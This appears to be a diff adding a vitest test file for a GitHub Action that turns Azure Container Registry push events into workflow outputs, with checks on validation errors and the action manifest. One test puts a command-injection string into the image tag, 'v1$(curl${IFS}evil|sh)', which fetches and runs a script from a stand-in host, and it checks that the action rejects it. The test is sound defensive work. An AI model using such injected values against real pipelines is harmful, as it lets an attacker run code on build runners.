@@ -1,0 +1,104 @@
+// The bundled action, run as a process with the runner's contract.
+import { describe, expect, test } from 'vitest'
+import { actionManifest, runAction } from '../scripts/runner.mjs'
+import { parseEvent } from '../src/event/parse.js'
+import { buildOutputs, OUTPUT_NAMES } from '../src/outputs.js'
+import { fixture, fixtureNames } from './support/fixtures.js'
+
+const dispatch = (clientPayload: unknown) => ({ action: 'acr-push', client_payload: clientPayload })
+
+describe('dist/index.js on a repository_dispatch run', () => {
+  test('sets the outputs of the sample push', () => {
+    const result = runAction({ event: dispatch(fixture('native-push.json')) })
+    expect(result.status, result.stdout).toBe(0)
+    expect(result.outputs).toMatchObject({
+      matched: 'true',
+      action: 'push',
+      repository: 'team/web',
+      tag: 'v1.4.2',
+      digest: 'sha256:af44d698bd46ce657f1d8e2078bcb3d0e1e1a10cdbe065e1b070ff0085750c74',
+      registry: 'myregistry.azurecr.io',
+      image: 'myregistry.azurecr.io/team/web:v1.4.2',
+      'event-id': 'cb8c3971-9adc-488b-b1f6-43cbb4974ff5'
+    })
+    expect(result.stdout).toContain('::group::ACR push event: outputs')
+    expect(result.summary).toContain('myregistry.azurecr.io/team/web:v1.4.2')
+  })
+
+  test.each(fixtureNames())('%s: the bundle sets what the source computes', name => {
+    const result = runAction({ event: dispatch(fixture(name)) })
+    expect(result.status, result.stdout).toBe(0)
+    expect(result.outputs).toEqual(buildOutputs(parseEvent(fixture(name), 'client_payload'), { matched: true }))
+  })
+
+  test('a hostile tag fails the step, names the field, and sets no output', () => {
+    const payload = fixture('native-push.json') as any
+    payload.target.tag = 'v1$(curl${IFS}evil|sh)'
+    const result = runAction({ event: dispatch(payload) })
+    expect(result.status).toBe(1)
+    expect(result.stdout).toContain('::error::client_payload.target.tag: must be an OCI tag')
+    expect(result.outputs).toEqual({})
+    expect(result.summary).toBe('')
+  })
+
+  test('a missing client_payload says what the relay must send', () => {
+    const result = runAction({ event: { action: 'acr-push' } })
+    expect(result.status).toBe(1)
+    expect(result.stdout).toMatch(/::error::client_payload: is missing from the repository_dispatch event/)
+    expect(result.outputs).toEqual({})
+  })
+})
+
+describe('dist/index.js with the payload input', () => {
+  test('reads the event from payload on workflow_dispatch', () => {
+    const result = runAction({
+      eventName: 'workflow_dispatch',
+      event: { inputs: {} },
+      inputs: { payload: JSON.stringify(fixture('eventgrid-push.json')) }
+    })
+    expect(result.status, result.stdout).toBe(0)
+    expect(result.outputs.repository).toBe('team/web')
+    expect(JSON.parse(result.outputs.json!).shape).toBe('event-grid')
+  })
+
+  test('payload wins over client_payload', () => {
+    const result = runAction({
+      event: dispatch(fixture('native-push.json')),
+      inputs: { payload: JSON.stringify(fixture('native-chart-push.json')) }
+    })
+    expect(result.outputs.action).toBe('chart_push')
+  })
+
+  test('invalid JSON in payload is reported as such', () => {
+    const result = runAction({ eventName: 'workflow_dispatch', inputs: { payload: '{"action":' } })
+    expect(result.status).toBe(1)
+    expect(result.stdout).toMatch(/::error::payload: input is not valid JSON/)
+    expect(result.outputs).toEqual({})
+  })
+
+  test('errors in payload are rooted at payload', () => {
+    const result = runAction({ eventName: 'workflow_dispatch', inputs: { payload: '{"action":"push","target":{"repository":"UP","digest":"x"}}' } })
+    expect(result.stdout).toContain('::error::payload.target.repository:')
+  })
+
+  test('another trigger without payload names the trigger and the fix', () => {
+    const result = runAction({ eventName: 'push', event: { ref: 'refs/heads/main' } })
+    expect(result.status).toBe(1)
+    expect(result.stdout).toMatch(/triggered by "push", which carries no ACR event/)
+    expect(result.stdout).toContain('payload: ${{ inputs.payload }}')
+  })
+})
+
+describe('action.yml', () => {
+  test('declares exactly the outputs the action sets', () => {
+    expect(Object.keys(actionManifest.outputs).sort()).toEqual([...OUTPUT_NAMES].sort())
+  })
+
+  test('describes every input and output, and runs on node24', () => {
+    for (const spec of [...Object.values(actionManifest.inputs), ...Object.values(actionManifest.outputs)] as any[]) {
+      expect(spec.description).toMatch(/\w{3,}/)
+    }
+    expect(actionManifest.runs.using).toBe('node24')
+    expect(actionManifest.runs.main).toBe('dist/index.js')
+  })
+})
